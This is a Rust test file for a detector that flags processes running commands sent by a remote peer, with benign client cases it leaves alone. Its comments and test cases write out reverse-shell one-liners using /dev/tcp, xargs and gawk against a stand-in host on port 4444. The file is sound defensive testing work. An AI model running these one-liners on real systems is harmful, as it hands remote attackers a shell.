//! Programs that run a process for each message of a peer, and those that only resemble them.

use super::*;
use crate::walk::RING_SLOT;

/// Where a process of a program writes.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Output {
    Connection,
    /// A pipe that the program reads.
    Pipe,
    Elsewhere,
}

/// A program with a connection, in time.
struct Session {
    program: (&'static str, &'static str),
    output: Output,
    accepts: bool,
    /// The number of the connection's descriptor, or of its slot in a ring.
    number: u32,
    flags: u32,
    watch: Watch,
    received: u64,
    sent: u64,
    /// The process that runs, and the number of those that have run.
    child: Option<u32>,
    children: u32,
    /// Number of scans between an answer and the next command.
    pause: u32,
    found: Vec<String>,
}

impl Session {
    fn new(file: &'static str, line: &'static str, output: Output) -> Self {
        let mut session = Self {
            program: (file, line),
            output,
            accepts: false,
            number: 5,
            flags: 0,
            watch: Watch::new(),
            received: 0,
            sent: 0,
            child: None,
            children: 0,
            pause: 15,
            found: Vec::new(),
        };
        session.wait(1);
        session
    }

    fn wait(&mut self, scans: u32) {
        let mut machine = Machine::default();
        let tcp = machine.connection(40000, PEER);
        if self.accepts {
            machine.listener(40000);
        }
        let (read, write) = machine.pipe();
        (machine.received, machine.sent) = (self.received, self.sent);
        let (file, line) = self.program;
        let null = null();
        let files = [(0, &null), (1, &null), (4, &read), (self.number, &tcp)];
        let of_connection = usize::from(self.number == 0);
        machine.run(20, file, line, &files[of_connection..]);
        machine.world.process(20).flags = self.flags;
        if let Some(pid) = self.child {
            let output = match self.output {
                Output::Connection => &tcp,
                Output::Pipe => &write,
                Output::Elsewhere => &null,
            };
            machine.run(pid, "id", "id", &[(0, &null), (1, output), (2, output)]);
            machine.world.process(pid).parent = 20;
        }
        self.found.extend((0..scans).flat_map(|_| self.watch.scan(&machine)));
    }

    fn start(&mut self) {
        self.children += 1;
        self.child = Some(100 + self.children);
    }

    /// The peer sends a command, which runs, and is answered.
    fn command(&mut self) {
        self.wait(self.pause);
        self.received += 3;
        self.wait(1);
        self.start();
        self.wait(2);
        self.sent += 40;
        self.wait(1);
        self.child = None;
        self.wait(1);
    }

    /// Time without a scan.
    fn sleep(&mut self, seconds: i64) {
        self.watch.now = self.watch.now.after(seconds * 1_000_000_000);
        self.wait(1);
    }

    fn commands(mut self, count: u32) -> Vec<String> {
        (0..count).for_each(|_| self.command());
        self.found
    }
}

const FOUND: [&str; 1] = ["Outbound 40000: 20 in 20 out 20"];

#[test]
fn a_one_liner_that_runs_what_a_peer_sends_is_reported_once() {
    for (file, line, output) in [
        ("perl", "perl -MIO -e x", Output::Connection),
        ("perl", "perl -e x", Output::Pipe),
        ("python3.11", "python3 -c x", Output::Connection),
        ("ruby3.1", "ruby -rsocket -e x", Output::Pipe),
        ("node", "node -e x", Output::Pipe),
        ("python3.11", "python3 /tmp/x.py", Output::Pipe),
        ("bash", "bash -c x", Output::Connection),
        ("gawk", "gawk -v s=/inet/tcp/0/A/4444 BEGIN{}", Output::Pipe),
    ] {
        assert_eq!(Session::new(file, line, output).commands(1), [""; 0], "{line}");
        assert_eq!(Session::new(file, line, output).commands(2), FOUND, "{line}");
        assert_eq!(Session::new(file, line, output).commands(12), FOUND, "{line}");
    }
}

#[test]
fn a_connection_in_a_ring_counts_as_one_at_a_descriptor() {
    for output in [Output::Connection, Output::Pipe] {
        let mut session = Session::new("python3.11", "python3 -c x", output);
        session.number = RING_SLOT + 2;
        assert_eq!(session.commands(2), FOUND, "{output:?}");
    }
}

/// `while read -r line; do $line >&0; done </dev/tcp/A/4444 &`
#[test]
fn a_shell_that_forked_takes_turns_over_its_input() {
    let mut session = Session::new("bash", "bash", Output::Connection);
    (session.number, session.flags) = (0, FORKED);
    assert_eq!(session.commands(2), FOUND);
    // A client that asks first.
    let mut session = Session::new("bash", "bash", Output::Connection);
    (session.number, session.flags, session.sent) = (0, FORKED, 20);
    assert_eq!(session.commands(7), [""; 0]);
}

#[test]
fn programs_that_are_somebodys_file_raise_no_alert() {
    for (file, line) in [
        ("python3.11", "python3 /usr/lib/agent.py"),
        ("python3.11", "python3 -m celery worker"),
        ("bash", "bash /usr/bin/agent"),
        ("ruby3.1", "ruby /usr/bin/puppet"),
        ("node", "node /srv/app.js"),
        ("runner", "runner -e x"),
        ("gawk", "gawk -f /usr/lib/agent.awk"),
    ] {
        assert_eq!(Session::new(file, line, Output::Pipe).commands(20), [""; 0], "{line}");
    }
}

#[test]
fn what_does_not_write_to_a_peer_that_answers_soon_raises_no_alert() {
    let session = Session::new("bash", "bash -c x", Output::Elsewhere);
    assert_eq!(session.commands(20), [""; 0]);
}

#[test]
fn an_accepted_connection_raises_no_alert() {
    let mut session = Session::new("python3.11", "python3 -c x", Output::Connection);
    session.accepts = true;
    session.wait(1);
    assert_eq!(session.commands(20), [""; 0]);
}

#[test]
fn a_client_raises_no_alert() {
    // It measures something, sends the result, and the server confirms it: at once, or as soon as
    // the next process runs.
    for (pause, delay) in [(20, 0), (20, 2), (0, 0), (0, 2), (0, 6)] {
        let mut session = Session::new("bash", "bash -c x", Output::Pipe);
        for _ in 0..60 {
            session.start();
            session.wait(2);
            session.child = None;
            session.sent += 10;
            session.wait(1 + delay);
            session.received += 3;
            session.wait(1 + pause);
        }
        assert_eq!(session.found, [""; 0], "{pause} {delay}");
    }
}

#[test]
fn one_message_with_many_commands_is_one_turn() {
    let mut session = Session::new("perl", "perl -e x", Output::Connection);
    session.wait(15);
    session.received += 300;
    for _ in 0..20 {
        session.start();
        session.wait(3);
        session.sent += 10;
        session.child = None;
        session.wait(1);
    }
    assert_eq!(session.found, [""; 0]);
}

#[test]
fn a_program_that_spoke_first_has_to_take_more_turns() {
    let session = || {
        let mut session = Session::new("perl", "perl -e x", Output::Connection);
        session.sent += 10;
        session.wait(1);
        session
    };
    assert_eq!(session().commands(7), [""; 0]);
    assert_eq!(session().commands(8), FOUND);
}

/// A session whose commands write to a file, with a peer that takes its time.
fn by_order(file: &'static str, line: &'static str) -> Session {
    let mut session = Session::new(file, line, Output::Elsewhere);
    session.pause = 40;
    session
}

#[test]
fn a_program_that_sends_something_after_each_command_is_reported_and_again_when_it_is_sure() {
    for (file, line) in [
        ("python3.11", "python3 -c x"),
        ("python3.11", "python3 /tmp/x.py"),
        ("php8.2", "php -r x"),
        ("lua5.4", "lua5.4 -e x"),
        ("ruby3.1", "ruby -rsocket -e x"),
        ("perl", "perl -e x"),
        ("tclsh8.6", "tclsh8.6"),
        ("bash", "bash -c x"),
    ] {
        let found = |count| by_order(file, line).commands(count);
        assert_eq!(found(2), [""; 0], "{line}");
        assert_eq!(found(3), FOUND, "{line}");
        assert_eq!(found(5), FOUND, "{line}");
        let twice = [FOUND[0], FOUND[0]];
        assert_eq!((found(6), found(20)), (twice.map(str::to_string).to_vec(), found(6)));
    }
    assert_eq!(by_order("python3.11", "python3 /usr/lib/agent.py").commands(20), [""; 0]);
}

#[test]
fn a_command_may_take_minutes_to_start_and_to_end() {
    for output in [Output::Elsewhere, Output::Pipe, Output::Connection] {
        let mut session = Session::new("python3.11", "python3 -c x", output);
        for turn in 1..=3 {
            session.sleep(600);
            session.received += 3;
            session.wait(1);
            session.sleep(180);
            session.start();
            session.wait(2);
            session.sleep(180);
            session.child = None;
            session.wait(1);
            session.sent += 40;
            session.wait(2);
            assert_eq!(session.found.len(), usize::from(turn == 3), "{output:?} {turn}");
        }
    }
}

#[test]
fn a_peer_that_speaks_at_once_is_first() {
    let mut session = by_order("python3.11", "python3 -c x");
    session.received += 3;
    session.wait(1);
    session.start();
    session.wait(2);
    session.child = None;
    session.sent += 10;
    session.wait(1);
    assert_eq!(session.commands(2), FOUND);
}

/// `EHLO $(hostname)` after the greeting of a mail server, and a process for the next line. Replies
/// take as many scans, each of 10 ms.
#[test]
fn a_client_that_runs_a_process_for_its_greeting_raises_no_alert() {
    for output in [Output::Pipe, Output::Connection, Output::Elsewhere] {
        for (greeting, reply) in [(1, 1), (5, 5), (30, 8), (150, 5), (600, 8), (2, 8)] {
            for processes in 1..=6 {
                let mut session = Session::new("bash", "bash -c x", output);
                session.wait(greeting);
                session.received += 40;
                session.wait(1);
                for line in 0..6 {
                    if line < processes {
                        session.start();
                        session.wait(2);
                        session.child = None;
                    }
                    session.sent += 20;
                    session.wait(reply);
                    session.received += 30;
                    session.wait(1);
                }
                assert_eq!(session.found, [""; 0], "{output:?} {greeting} {reply} {processes}");
            }
        }
    }
}

/// The same with a server that takes half a second for each reply.
#[test]
fn a_slow_server_is_answered_after_a_process_once_or_twice() {
    for processes in [1, 2] {
        let mut session = Session::new("bash", "bash -c x", Output::Elsewhere);
        session.wait(100);
        session.received += 40;
        session.wait(1);
        for line in 0..8 {
            if line < processes {
                session.start();
                session.wait(2);
                session.child = None;
            }
            session.sent += 20;
            session.wait(50);
            session.received += 30;
            session.wait(1);
        }
        assert_eq!(session.found, [""; 0], "{processes}");
    }
}

/// SMTP, FTP, MySQL: the server greets, the client logs in and then runs something for each reply.
#[test]
fn a_client_that_was_greeted_raises_no_alert_by_order() {
    let mut session = by_order("python3.11", "python3 -c x");
    session.wait(40);
    session.received += 30;
    session.wait(5);
    session.sent += 30;
    session.wait(1);
    assert_eq!(session.commands(20), [""; 0]);
}

#[test]
fn a_client_that_spoke_first_raises_no_alert_by_order() {
    let mut session = by_order("python3.11", "python3 -c x");
    session.sent += 10;
    session.wait(1);
    assert_eq!(session.commands(20), [""; 0]);
}

#[test]
fn turns_by_order_count_in_a_row() {
    let mut session = by_order("python3.11", "python3 -c x");
    for _ in 0..8 {
        (0..2).for_each(|_| session.command());
        // It sends something that nothing was started for.
        session.wait(40);
        session.sent += 10;
        session.wait(1);
    }
    assert_eq!(session.found, [""; 0]);
    for _ in 0..8 {
        (0..2).for_each(|_| session.command());
        // The peer asks for something that the program knows itself.
        session.wait(40);
        session.received += 10;
        session.wait(2);
        session.sent += 10;
        session.wait(1);
    }
    assert_eq!(session.found, [""; 0]);
    for _ in 0..8 {
        (0..2).for_each(|_| session.command());
        // The peer confirms what it was sent, as servers do.
        session.received += 2;
        session.wait(1);
    }
    assert_eq!(session.found, [""; 0]);
    assert_eq!(session.commands(3), FOUND);
}

/// `cat < /dev/tcp/A/4444 | xargs -I{} bash -c {}`.
#[test]
fn an_xargs_that_runs_what_a_peer_sends_is_reported() {
    let found = |line: &str, back: bool, sent: u64, commands: u32| {
        let mut machine = Machine::default();
        let tcp = machine.connection(40000, PEER);
        let (read, write) = machine.pipe();
        let null = null();
        machine.run(20, "cat", "cat", &[(0, &tcp), (1, &write)]);
        let output = if back { &tcp } else { &null };
        machine.run(21, "xargs", line, &[(0, &read), (1, output), (2, output)]);
        machine.sent = sent;
        let mut watch = Watch::new();
        let mut found = watch.settle(&machine);
        for command in 0..commands {
            (0..4).for_each(|_| found.extend(watch.settle(&machine)));
            machine.received += 3;
            let pid = 100 + command;
            machine.run(pid, "bash", "bash -c id", &[(0, &null), (1, output)]);
            machine.world.process(pid).parent = 21;
            found.extend(watch.settle(&machine));
            machine.world.remove(pid);
        }
        found
    };
    let with_output = ["Outbound 40000: 20,21 in 20>21 out 21"];
    assert_eq!(found("xargs -I{} bash -c {}", true, 0, 0), with_output);
    let without = ["Outbound 40000: 20,21 in 20>21 out 21"];
    assert_eq!(found("xargs -I{} bash -c {}", false, 0, 2), without);
    assert_eq!(found("xargs -I{} bash -c {}", false, 0, 1), [""; 0]);
    assert_eq!(found("xargs -I{} bash -c {}", false, 90, 20), [""; 0], "it asked: curl");
    assert_eq!(found("xargs -n1 wget", false, 0, 20), [""; 0], "data");
}
